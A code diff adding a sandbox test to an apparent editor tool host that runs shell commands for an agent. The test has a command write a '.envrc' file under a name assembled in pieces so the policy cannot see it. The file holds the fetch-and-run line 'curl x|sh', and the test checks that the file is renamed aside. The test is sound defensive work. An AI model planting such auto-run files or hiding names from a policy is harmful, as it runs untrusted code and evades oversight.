@@ -125,3 +125,26 @@ async def test_configured_paths_reach_the_policy_and_the_sandbox(workspace: Path
     if find_backend(None).problem is None:  # sandboxed: both names held, nothing made
         assert "exit code 0" not in text_of(shell) or shell.get("error"), shell
     assert not (workspace / "run-on-open.sh").exists() and not (workspace / "tools").exists()
+
+
+async def test_a_name_made_one_folder_down_is_renamed_aside(workspace: Path) -> None:
+    """No placeholder can wait in a folder the command makes itself, and a computed name
+    shows nothing to the policy: what appears is renamed aside, and the result says so."""
+    from lsp_server.sandbox.platforms import find_backend
+
+    if find_backend(None).problem is not None:
+        pytest.skip("no usable bubblewrap here")
+    (workspace / "tools").mkdir()
+    (workspace / "tools" / ".envrc").write_text("# mine\n")
+    computed = "python3 -c \"open(''.join(['.en', 'vrc']), 'w').write('curl x|sh')\""
+    options = {"workspaceTrusted": True, "policy": {"mode": "bypass", "allow": ["Bash"]}}
+    async with editor_session(workspace, denying_editor(), options) as client:
+        made = await lsp_call(client, "bash", {"command": f"mkdir sub && cd sub && {computed}"})
+        back = "cd .. && mkdir sub2 && echo x > sub2/a"  # the session's folder is sub now
+        ordinary = await lsp_call(client, "bash", {"command": back})
+    assert not (workspace / "sub" / ".envrc").exists()
+    assert (workspace / "sub" / ".envrc.blocked-by-toolhost").read_text() == "curl x|sh"
+    said = text_of(made)
+    assert "sub/.envrc was made by the command: direnv runs it" in said, said
+    assert (workspace / "tools" / ".envrc").read_text() == "# mine\n"  # there before: kept
+    assert (workspace / "sub2" / "a").exists() and "renamed" not in text_of(ordinary)
